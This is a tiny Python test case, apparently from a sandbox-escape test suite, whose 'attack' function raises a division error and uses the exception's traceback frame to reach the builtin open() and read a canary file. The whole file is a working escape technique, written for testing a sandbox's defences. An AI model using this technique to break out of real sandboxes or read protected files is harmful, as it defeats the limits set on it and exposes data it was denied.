# desc: the traceback of a caught error leads to a frame
# class: escape
# wins: told
def attack(state):
    try:
        return 1 / 0
    except ZeroDivisionError as error:
        return "L2:" + error.__traceback__.tb_frame.f_builtins["open"]("@CANARY@").read()
